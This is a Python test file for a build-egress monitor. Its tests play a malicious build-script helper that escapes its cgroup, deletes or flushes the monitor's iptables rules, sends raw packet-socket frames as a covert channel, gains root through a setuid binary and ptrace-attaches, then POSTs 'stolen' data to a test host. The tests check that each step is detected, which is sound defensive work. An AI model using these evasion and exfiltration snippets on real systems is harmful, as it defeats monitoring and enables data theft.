"""Tampering by a root build, written as the attacker: a build script's helper (role
build-script, crate evil-dep) moves itself out of its cgroup, deletes our OUTPUT jumps,
flushes our chains, sends a raw frame through a packet socket, gains uid 0 through a
setuid-root binary, or ptrace-attaches; then it POSTs to the test host.

Each: a ``tamper`` alert naming the build and the crate; enforce mode kills the build; rules
are back within about a second (awaited, and the time measured from the helper's own clock
reading just after it tampered). With the BPF backstop in the daemon (``BPF_BACKSTOP``), what
the helper sends right after tampering with rules or cgroups never reaches the test host: its
socket was stamped at creation, so its packets are judged (or dropped unjudged) wherever its
process went and whatever happened to our rules. A raw frame is below every hook in the
kernel: detected, never stopped.
"""

from __future__ import annotations

import contextlib
import json
import os
import shutil
import subprocess
import tempfile
import time
from collections.abc import Iterator
from typing import Any

import pytest

from egress_monitor.enforce.cgroups import Cgroups
from egress_monitor.enforce.firewall import Firewall
from tests.kernel.netlab import DaemonHandle, TestHost, Workspace, sh, wait_until

BPF_BACKSTOP = True  # main's "daemon: BPF" is merged: nothing unjudged leaves a build socket

POST = r'''
import socket, sys, time
def post(path, timeout=5):
    try:
        s = socket.create_connection((HOST, 8080), timeout=timeout)
        s.sendall(b"POST " + path.encode() + b" HTTP/1.0\r\nContent-Length: 6\r\n\r\nstolen")
        s.recv(100)
        s.close()
        return "sent"
    except OSError as e:
        return type(e).__name__
def mark(name, text=""):
    with open(f"{DIR}/{name}", "w") as f:
        f.write(text or repr(time.monotonic()))
'''

ESCAPE = r'''
import contextlib
import json
import os
with open(CGROUP_MOUNT + "/cgroup.procs", "w") as f:
    f.write(str(os.getpid()))
mark("tampered")
mark("post-1", post("/escaped"))
# Wait to be put back (or killed), then try again: judged as a build's flow once more.
deadline = time.monotonic() + 10
while time.monotonic() < deadline:
    if "egress-build-" in open("/proc/self/cgroup").read().split("0::", 1)[1]:
        mark("back")
        break
    time.sleep(0.02)
mark("post-2", post("/after-return"))
'''

RULES = r'''
import subprocess
for argv in COMMANDS:
    subprocess.run(argv, check=True)
mark("tampered")
mark("post-1", post("/after-tamper"))
time.sleep(3)  # an attacker lingering (in enforce mode it is killed here)
'''

RAW = r'''
import socket, struct
def csum(b):
    s = sum(struct.unpack("!%dH" % (len(b) // 2), b))
    s = (s >> 16) + (s & 0xFFFF)
    return ~(s + (s >> 16)) & 0xFFFF
payload = b"raw-frame-past-netfilter"
udp = struct.pack("!HHHH", 40000, 5353, 8 + len(payload), 0) + payload
ip = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + len(udp), 1, 0, 64, 17, 0,
                 socket.inet_aton(SRC), socket.inet_aton(HOST))
ip = ip[:10] + struct.pack("!H", csum(ip)) + ip[12:]
s = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(0x0800))
s.bind((IFACE, 0))
dst = bytes.fromhex(DST_MAC.replace(":", ""))
s.send(dst + s.getsockname()[4][:6] + b"\x08\x00" + ip + udp)
mark("tampered")
# A covert channel's other half: keep listening on the same socket for answers (the echo,
# then whatever else comes) for a few seconds. (A socket that lives less than the daemon's
# one-second poll can be missed: docs/tamper.md.)
s.settimeout(0.5)
deadline = time.monotonic() + 5
while time.monotonic() < deadline:
    try:
        frame = s.recv(2048)
    except OSError:
        continue
    if b"raw-frame-past-netfilter" in frame[14 + 20 + 8:]:
        mark("echo")
'''

SETUID = r'''
import subprocess
subprocess.run(["setpriv", "--reuid=65534", "--regid=65534", "--clear-groups", SUID_PY, "-c",
                "import os, time; os.setuid(0); open(%r, 'w').write(repr(os.getuid())); "
                "time.sleep(3)" % (DIR + "/uid",)], check=False)
mark("tampered")
mark("post-1", post("/as-root"))
'''

PTRACE = r'''
import ctypes, os
libc = ctypes.CDLL(None, use_errno=True)
child = os.fork()
if child == 0:
    time.sleep(30)
    os._exit(0)
if libc.ptrace(16, child, None, None) != 0:  # PTRACE_ATTACH
    raise OSError(ctypes.get_errno(), "ptrace")
os.waitpid(child, 0)
libc.ptrace(17, child, None, None)  # PTRACE_DETACH
mark("tampered")
mark("post-1", post("/after-ptrace"))
time.sleep(3)
os.kill(child, 9)
'''

JUMP_DELETE = [["iptables", "-w", "-D", "OUTPUT", "-m", "conntrack", "--ctstate",
                "NEW,INVALID,UNTRACKED", "-j", "EGRESS-MON"],
               ["iptables", "-w", "-t", "nat", "-D", "OUTPUT", "-j", "EGRESS-MON-NAT"]]
FLUSH = [["iptables", "-w", "-F", "EGRESS-MON"], ["iptables", "-w", "-t", "nat", "-F",
                                                  "EGRESS-MON-NAT"],
         ["ip6tables", "-w", "-F", "EGRESS-MON"], ["ip6tables", "-w", "-t", "nat", "-F",
                                                   "EGRESS-MON-NAT"]]


@pytest.fixture
def suid_python() -> Iterator[str]:
    """A setuid-root copy of the system python, where user 65534 can run it."""
    d = tempfile.mkdtemp(prefix="em-suid-", dir="/var/tmp")
    try:
        os.chmod(d, 0o755)
        path = os.path.join(d, "python3")
        shutil.copy("/usr/bin/python3.11", path)
        os.chmod(path, 0o4755)
        yield path
    finally:
        shutil.rmtree(d)


@contextlib.contextmanager
def helper_build(daemon: DaemonHandle, host: TestHost, ws: Workspace, mode: str, body: str,
                 **consts: Any) -> Iterator[subprocess.Popen[bytes]]:
    """``cargo build`` in the background, its build script running the attack ``body``."""
    daemon.restart("-v", policy=f"version: 1\nmode: {mode}\n")
    consts = {"HOST": host.v4, "DIR": str(ws.root), **consts}
    header = "".join(f"{k} = {v!r}\n" for k, v in consts.items())
    (ws.root / "attack.py").write_text(header + POST + body)
    with ws.cargo_build_in_background(host, "py=attack") as build:
        yield build


def run_helper(daemon: DaemonHandle, host: TestHost, ws: Workspace, mode: str, body: str,
               **consts: Any) -> int:
    """The build run to its end; returns cargo's exit status."""
    with helper_build(daemon, host, ws, mode, body, **consts) as build:
        return build.wait(timeout=300)


def tamper_alert(daemon: DaemonHandle, what: str) -> dict[str, Any]:
    alert = daemon.wait_event(f"the {what} tamper alert", lambda e: e["type"] == "alert"
                              and e["kind"] == "tamper" and e["evidence"]["tamper"] == what)
    assert alert["severity"] == "critical" and alert["rule"] == "tamper"
    assert alert["crate"] == {"name": "evil-dep", "version": "0.3.10"}, \
        json.dumps(alert) + "\n" + daemon.log()[-5000:]
    assert alert["role"] == "build-script" and alert["build"]["id"]
    return alert


def check_outcome(alert: dict[str, Any], status: int, mode: str,
                  daemon: DaemonHandle) -> None:
    killed = mode == "enforce"
    assert alert["evidence"]["build_killed"] is killed and alert["blocked"] is killed
    assert (status != 0) is killed, status
    end = daemon.wait_event("build_end", lambda e: e["type"] == "build_end")
    assert end["build"]["id"] == alert["build"]["id"]
    # Our own rule changes (the build's start and end, the restore) raised nothing.
    kinds = {e["evidence"]["tamper"] for e in daemon.events("alert") if e["kind"] == "tamper"}
    assert kinds == {alert["evidence"]["tamper"]}, daemon.events("alert")


def rules_sound() -> bool:
    """Every jump at the top of OUTPUT and our chains holding their fixed rules."""
    if not Firewall().present():
        return False
    for tool in ("iptables", "ip6tables"):
        nat = sh(tool, "-w", "-t", "nat", "-S", "EGRESS-MON-NAT", check=False).stdout
        filt = sh(tool, "-w", "-S", "EGRESS-MON", check=False).stdout
        if "RETURN" not in nat or "REJECT" not in filt:
            return False
    return True


def restore_seconds(ws: Workspace) -> float:
    """From the helper's clock reading right after it tampered to rules seen sound again."""
    wait_until("the helper to tamper", lambda: (ws.root / "tampered").exists(), timeout=120)
    wait_until("the rules put back", rules_sound, timeout=10, interval=0.01)
    return time.monotonic() - float((ws.root / "tampered").read_text())


@pytest.mark.parametrize("mode", ["audit", "enforce"])
def test_moving_out_of_the_build_cgroup(daemon: DaemonHandle, test_host: TestHost,
                                        workspace: Workspace, mode: str) -> None:
    status = run_helper(daemon, test_host, workspace, mode, ESCAPE,
                        CGROUP_MOUNT=Cgroups.discover().mount)
    alert = tamper_alert(daemon, "cgroup")
    ev = alert["evidence"]
    assert ev["moved_back"] is True and "egress-build-" in ev["build_cgroup"]
    assert "egress-build-" not in ev["cgroup"]
    check_outcome(alert, status, mode, daemon)
    paths = [r["path"] for r in test_host.requests()]
    posts = [e for e in daemon.events("connection") if e["build"]["id"] == alert["build"]["id"]
             and e["dst"] == {"ip": test_host.v4, "port": 8080, "names": []}]
    if mode == "audit":
        assert (workspace.root / "back").exists()
        assert "/after-return" in paths  # judged again: a connection record of the build
    if BPF_BACKSTOP:
        # Stamped at creation, its socket is judged wherever its process went: the escaped
        # POST too has a verdict (audit: allowed; enforce: refused, and nothing arrives).
        if mode == "audit":
            assert len(posts) == 2, posts
        else:  # killed at the move back: a second attempt is rare, and refused too
            assert paths == [] and posts and all(p["decision"] == "deny" for p in posts)
    elif mode == "audit":
        assert len(posts) == 1  # only the one after the move back was judged


@pytest.mark.parametrize("mode", ["audit", "enforce"])
@pytest.mark.parametrize("shape", ["jump", "flush"])
def test_deleting_or_flushing_our_rules(daemon: DaemonHandle, test_host: TestHost,
                                        workspace: Workspace, mode: str, shape: str) -> None:
    commands = JUMP_DELETE if shape == "jump" else FLUSH
    with helper_build(daemon, test_host, workspace, mode, RULES, COMMANDS=commands) as build:
        restore_s = restore_seconds(workspace)
        status = build.wait(timeout=300)
    print(f"{shape}/{mode}: rules sound again {restore_s:.3f} s after the helper's change")
    assert restore_s < 1.5, restore_s
    alert = tamper_alert(daemon, "rules")
    # A check can fall between two of the helper's commands: then the first alert names what
    # was already changed, and the next check the rest; a command that lands while the
    # daemon restores is undone by the restore itself. In enforce mode the first alert kills
    # the build, so its later commands may never run. Whatever the interleaving: every
    # difference named is one the helper made, and the rules are back (awaited above).
    want = (["ipv4 filter: jump removed from OUTPUT", "ipv4 nat: jump removed from OUTPUT"]
            if shape == "jump" else
            [f"{where}: chain {chain} flushed" for where, chain in (
                ("ipv4 filter", "EGRESS-MON"), ("ipv4 nat", "EGRESS-MON-NAT"),
                ("ipv6 filter", "EGRESS-MON"), ("ipv6 nat", "EGRESS-MON-NAT"))])

    def said() -> str:
        return " | ".join(d for e in daemon.events("alert") if e["kind"] == "tamper"
                          for d in e["evidence"]["differences"])
    assert all(any(d.startswith(w) for w in want) for d in said().split(" | ")), said()
    for e in [e for e in daemon.events("alert") if e["kind"] == "tamper"]:
        ev = e["evidence"]
        assert ev["tamper"] == "rules" and ev["restored"] is True
        assert ev["detector"] == "nftables-generation" and ev["committed_by"]
        assert {c["comm"] for c in ev["committed_by"]} <= {"iptables", "ip6tables"}
        assert e["build"]["id"] == alert["build"]["id"] and e["crate"] == alert["crate"]
    check_outcome(alert, status, mode, daemon)
    # At most one alert per command of the helper: the restore itself raised none.
    rules_alerts = [e for e in daemon.events("alert") if e["kind"] == "tamper"]
    assert 1 <= len(rules_alerts) <= len(commands), rules_alerts
    if BPF_BACKSTOP:
        assert "/after-tamper" not in [r["path"] for r in test_host.requests()]


def peer_mac(host: TestHost) -> str:
    out = sh("ip", "-n", host.ns, "-o", "link", "show", host.peer_if).stdout
    return out.split("link/ether ", 1)[1].split()[0]


@pytest.mark.parametrize("mode", ["audit", "enforce"])
def test_a_raw_frame_through_a_packet_socket(daemon: DaemonHandle, test_host: TestHost,
                                             workspace: Workspace, mode: str) -> None:
    status = run_helper(daemon, test_host, workspace, mode, RAW, SRC=test_host.local_v4,
                        IFACE=test_host.host_if, DST_MAC=peer_mac(test_host))
    alert = tamper_alert(daemon, "packet_socket")
    assert alert["evidence"]["inodes"]
    check_outcome(alert, status, mode, daemon)
    # Nothing in the kernel stops a raw frame (below netfilter and cgroup BPF): it arrives.
    assert any(r["proto"] == "udp" and "raw-frame" in r["body"]
               for r in test_host.requests()), test_host.requests()


@pytest.mark.parametrize("mode", ["audit", "enforce"])
def test_gaining_uid_0(daemon: DaemonHandle, test_host: TestHost, workspace: Workspace,
                       mode: str, suid_python: str) -> None:
    status = run_helper(daemon, test_host, workspace, mode, SETUID, SUID_PY=suid_python)
    alert = tamper_alert(daemon, "uid_0")
    ev = alert["evidence"]
    assert (ev["gained"], ev["euid"], ev["before"]) == ("euid", 0, {"ruid": 65534,
                                                                   "euid": 65534}), ev
    check_outcome(alert, status, mode, daemon)
    if mode == "audit":
        assert (workspace.root / "uid").read_text() == "0"  # it really was root


@pytest.mark.parametrize("mode", ["audit", "enforce"])
def test_ptrace_attach(daemon: DaemonHandle, test_host: TestHost, workspace: Workspace,
                       mode: str) -> None:
    status = run_helper(daemon, test_host, workspace, mode, PTRACE)
    alert = tamper_alert(daemon, "ptrace")
    assert alert["evidence"]["target_in_build"] is True
    check_outcome(alert, status, mode, daemon)
